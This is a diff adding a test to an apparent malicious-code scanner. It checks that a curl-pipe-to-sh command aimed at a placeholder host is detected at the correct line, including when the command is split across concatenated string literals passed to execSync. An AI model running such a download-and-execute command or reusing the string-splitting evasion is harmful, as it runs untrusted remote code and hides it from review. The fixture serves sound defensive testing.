@@ -45,6 +45,17 @@ describe('line numbers', () => {
     expect(lines('pkg/m.py', 'shell_download_pipe')).toEqual([5, 7]);
     expect(lines('pkg/m.py', 'attack_chain')).toEqual([7]);
   });
+
+  it('a command glued from literals is found at its own line, far into the file, and its match says it was joined', () => {
+    const filler = Array.from({ length: 300 }, (_, i) => `const v${i} = 'a' + 'b';`).join('\n');
+    const out = js(`${filler}\nconst cp = require('child_' + 'process');\ncp.execSync('cu' + 'rl -s https://x.example/i.sh | ' +\n  'sh');\nmodule.exports = cp;\n`);
+    const hit = out.findings.filter((f) => f.code === 'shell_download_pipe');
+    expect(hit.map((f) => f.line)).toEqual([302]);
+    expect(hit[0]?.match).toMatch(/^glued: /);
+    // the same file with the command written whole gives the same line, with no joined reading to say
+    const whole = js(`${filler}\nconst cp = require('child_process');\ncp.execSync('curl -s https://x.example/i.sh | sh');\n`);
+    expect(whole.findings.filter((f) => f.code === 'shell_download_pipe').map((f) => [f.line, f.match?.startsWith('glued: ')])).toEqual([[302, false]]);
+  });
 });
 
 describe('install-time execution (npm hooks judged by what they run)', () => {
